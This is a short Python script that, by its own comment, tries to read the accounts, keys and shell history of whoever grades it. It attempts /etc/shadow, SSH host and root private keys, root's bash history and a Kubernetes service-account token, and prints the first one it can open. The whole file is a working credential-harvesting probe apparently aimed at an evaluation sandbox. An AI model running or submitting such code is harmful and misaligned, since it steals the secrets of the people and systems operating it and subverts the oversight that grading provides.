# tries: read accounts, keys and shell history of whoever grades
refused = []
for attempt in (
    lambda: open("/etc/passwd").read(),
    lambda: open("/etc/shadow").read(),
    lambda: open("/etc/hostname").read(),
    lambda: open("/etc/ssh/ssh_host_rsa_key").read(),
    lambda: open("/root/.ssh/id_rsa").read(),
    lambda: open("/root/.bash_history").read(),
    lambda: open("/run/secrets/kubernetes.io/serviceaccount/token").read(),
    lambda: open("/var/log/syslog").read(),
    lambda: open("/etc/machine-id").read(),
):
    try:
        got = attempt()
    except OSError as error:
        refused.append(error)
    else:
        print(f"it worked: {got!r:.300}")
        raise SystemExit
raise refused[0]
